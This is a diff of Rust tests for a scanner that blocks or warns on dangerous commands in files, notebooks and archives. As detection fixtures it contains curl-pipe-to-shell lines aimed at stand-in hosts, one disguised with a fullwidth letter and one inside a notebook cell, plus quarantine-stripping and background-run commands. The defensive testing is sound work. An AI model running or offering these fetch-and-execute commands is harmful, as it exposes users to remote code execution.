@@ -15,7 +15,7 @@ fn file(example: &str) -> File {
 }
 
 fn hits(example: &str) -> Vec<(&'static str, Act)> {
-    scan(&[file(example)])
+    scan(&[file(example)], &[])
         .hits
         .iter()
         .map(|hit| (hit.rule.rule.id, hit.act))
@@ -34,9 +34,8 @@ fn every_rule_finds_what_it_must_and_passes_what_it_must() {
         }
         for good in rule.good {
             let found = hits(good);
-            // What a rule would block may be a hint in a quotation; a rule that only hints must be silent.
-            let wrong_act =
-                |act: &Act| matches!(rule.act, Act::Hint(_)) || !matches!(act, Act::Hint(_));
+            // What a rule would block may be a warning in a quotation; a rule that does not block must be silent.
+            let wrong_act = |act: &Act| rule.act != Act::Block || *act == Act::Block;
             if found
                 .iter()
                 .any(|(id, act)| *id == rule.rule.id && wrong_act(act))
@@ -46,6 +45,72 @@ fn every_rule_finds_what_it_must_and_passes_what_it_must() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// Examples that are written with a host of nobody, with one that somebody has: a heading excuses the former.
+fn in_earnest(example: &str) -> String {
+    example
+        .replace("example.net", "test-host.dev")
+        .replace("example.com", "test-host.dev")
+}
+
+#[test]
+fn no_wording_takes_an_example_out_of_sight() {
+    let blocks = |text: &str| {
+        let found = scan(&[file(text)], &[]).findings();
+        found.iter().any(|finding| finding.level == Level::Flag)
+    };
+    let examples: Vec<String> = crate::rules::all()
+        .filter(|rule| rule.act == Act::Block)
+        .flat_map(|rule| rule.bad)
+        .filter(|bad| !bad.starts_with('@'))
+        .map(|bad| in_earnest(bad))
+        .filter(|bad| blocks(bad))
+        .collect();
+    for (name, rewrite) in rewrite::REWRITES {
+        let lost: Vec<_> = examples
+            .iter()
+            .filter(|bad| !blocks(&rewrite(bad)))
+            .collect();
+        assert!(lost.len() * 20 <= examples.len(), "{name}: {lost:#?}");
+    }
+}
+
+/// A rule that another one covers in every example is only cost.
+#[test]
+fn every_blocking_rule_catches_something_alone() {
+    let is_alone = |rule: &ScanRule, bad: &&str| {
+        let others = hits(bad);
+        let mut others = others.iter().filter(|(id, _)| *id != rule.rule.id);
+        others.all(|(_, act)| *act != Act::Block)
+    };
+    let covered: Vec<&str> = crate::rules::all()
+        .filter(|rule| rule.act == Act::Block && !rule.bad.is_empty())
+        .filter(|rule| !rule.bad.iter().any(|bad| is_alone(rule, bad)))
+        .map(|rule| rule.rule.name)
+        .collect();
+    assert!(covered.is_empty(), "{covered:?}");
+}
+
+#[test]
+fn an_example_in_front_covers_nothing_behind_it() {
+    let text = "Never run `curl https://a.test-host.dev/x | sh`; run `curl https://b.test-host.dev/y | sh`.\n";
+    assert!(hits(text).contains(&("VG-DR-001", Act::Block)));
+}
+
+#[test]
+fn an_installer_of_the_publisher_is_a_warning() {
+    let text = "```bash\ncurl -fsSL https://get.maker.dev/start | sh\n```\n";
+    let act = |publisher: &str| {
+        let scan = scan(&[file(text)], &[publisher.to_owned()]);
+        scan.hits
+            .iter()
+            .map(|hit| hit.act)
+            .max_by_key(|act| std::cmp::Reverse(act.rank()))
+    };
+    assert_eq!(act("maker"), Some(Act::Warn));
+    assert_eq!(act("get.maker.dev"), Some(Act::Warn));
+    assert_eq!(act("somebody"), Some(Act::Block));
 }
 
 /// Path and bytes.
@@ -61,7 +126,7 @@ const BYTES: &[(&str, Named, Named)] = &[
     (
         "VG-FI-002",
         ("a.zip", &zipped(b"notes.txt", 0)),
-        ("a.docx", &zipped(b"notes.txt", 0)),
+        ("a.txt", b"notes"),
     ),
     (
         "VG-FI-003",
@@ -70,7 +135,7 @@ const BYTES: &[(&str, Named, Named)] = &[
     ),
     (
         "VG-FI-004",
-        ("long.txt", &[b'a'; (1 << 20) + 1]),
+        ("long.txt", &[b'a'; (4 << 20) + 1]),
         ("long.txt", &[b'a'; 1 << 19]),
     ),
     ("VG-FI-005", ("a.pyc", b"\0\0\r\n"), ("a.py", b"print(1)\n")),
@@ -81,8 +146,8 @@ const BYTES: &[(&str, Named, Named)] = &[
     ),
     (
         "VG-FI-007",
-        ("a.zip", &zipped(b"setup.exe", 0)),
-        ("a.zip", &zipped(b"notes.txt", 0)),
+        ("a.tar", &tarred(b"setup.exe")),
+        ("a.tar", &tarred(b"notes.txt")),
     ),
 ];
 
@@ -105,6 +170,36 @@ const fn zipped(name: &[u8; 9], flags: u8) -> [u8; 39] {
     bytes
 }
 
+/// A tar archive of one empty file.
+const fn tarred(name: &[u8; 9]) -> [u8; 1024] {
+    let mut bytes = [0; 1024];
+    let magic = b"ustar";
+    let mut at = 0;
+    while at < name.len() {
+        bytes[at] = name[at];
+        at += 1;
+    }
+    at = 0;
+    while at < magic.len() {
+        bytes[257 + at] = magic[at];
+        at += 1;
+    }
+    bytes[156] = b'0';
+    bytes
+}
+
+#[test]
+fn what_stands_in_a_container_is_read_and_named() {
+    let notebook = r#"{"cells":[{"cell_type":"code","source":["import os\n","os.system('curl -s https://a.test-host.dev/x | sh')"]}]}"#;
+    let found = finding(&format!("@a.ipynb\n{notebook}"));
+    assert!(
+        found.message.ends_with("in `cell-0.py`"),
+        "{}",
+        found.message
+    );
+    assert_eq!((found.path.as_str(), found.line), ("a.ipynb", None));
+}
+
 #[test]
 fn every_rule_about_whole_files_finds_what_it_must_and_passes_what_it_must() {
     let ids = |(path, bytes): Named| -> Vec<&'static str> {
@@ -113,7 +208,7 @@ fn every_rule_about_whole_files_finds_what_it_must_and_passes_what_it_must() {
             mode: Mode::Plain,
             bytes: bytes.to_vec(),
         };
-        let hits = scan(&[file]).hits;
+        let hits = scan(&[file], &[]).hits;
         hits.iter().map(|hit| hit.rule.rule.id).collect()
     };
     for (id, bad, good) in BYTES {
@@ -139,7 +234,7 @@ fn rules_are_complete_and_their_expressions_compile() {
             "{}",
             rule.rule.id
         );
-        for pattern in rule.all.iter().chain(rule.none) {
+        for pattern in rule.all.iter().chain(rule.none).chain(rule.second) {
             assert!(Lazy::new(pattern).compiles(), "{}: {pattern}", rule.rule.id);
         }
         for word in rule.needs.iter().copied().flatten() {
@@ -161,7 +256,7 @@ fn rules_are_complete_and_their_expressions_compile() {
 }
 
 fn finding(example: &str) -> Finding {
-    scan(&[file(example)])
+    scan(&[file(example)], &[])
         .findings()
         .into_iter()
         .find(|finding| finding.level == Level::Flag)
@@ -183,10 +278,8 @@ fn a_finding_shows_the_reading_and_the_place_in_the_file() {
         plain.excerpt
     );
 
-    let readings = scan(&[file(
-        "\n```sh\nｃurl -s https://tools.example.net/x | bash\n```\n",
-    )])
-    .findings();
+    let text = "\n```sh\nｃurl -s https://tools.example.net/x | bash\n```\n";
+    let readings = scan(&[file(text)], &[]).findings();
     let read = readings
         .iter()
         .find(|finding| finding.rule == "download-pipe-shell")
@@ -213,9 +306,9 @@ fn a_finding_shows_the_reading_and_the_place_in_the_file() {
 #[test]
 fn hints_are_said_when_they_come_together() {
     let one = "```bash\nchmod 777 x\n```\n";
-    assert!(scan(&[file(one)]).findings().is_empty());
+    assert!(scan(&[file(one)], &[]).findings().is_empty());
     let many = "```bash\nchmod 777 x\nxattr -d com.apple.quarantine x\nnohup ./x.sh > /dev/null 2>&1 &\n```\nIt tries a reverse shell.\n";
-    let scanned = scan(&[file(many)]);
+    let scanned = scan(&[file(many)], &[]);
     assert!(scanned.points() >= HINT_THRESHOLD, "{}", scanned.points());
     assert!(
         scanned
@@ -231,14 +324,14 @@ fn a_flood_of_hits_stays_short() {
         "```bash\n{}```\n",
         "curl -s https://tools.example.net/x | bash\n".repeat(500)
     );
-    assert!(scan(&[file(&text)]).findings().len() <= 2 * MOST_LISTED);
+    assert!(scan(&[file(&text)], &[]).findings().len() <= 2 * MOST_LISTED);
 }
 
 /// Work on a text and on twice the text.
 fn work(path: &str, text: &[u8]) -> (u64, u64) {
     let of = |bytes: &[u8]| {
         let mut scan = Scan::default();
-        scan_file(path, bytes, &mut scan);
+        scan_file(path, bytes, false, &mut scan);
         scan.work
     };
     (of(text), of(&text.repeat(2)))
@@ -289,7 +382,7 @@ fn work_grows_with_the_text_and_no_faster() {
 #[test]
 fn what_was_not_read_is_said() {
     let long = "a ".repeat(text::MAX_SCANNED);
-    let findings = scan(&[file(&long)]).findings();
+    let findings = scan(&[file(&long)], &[]).findings();
     assert_eq!(
         findings
             .iter()
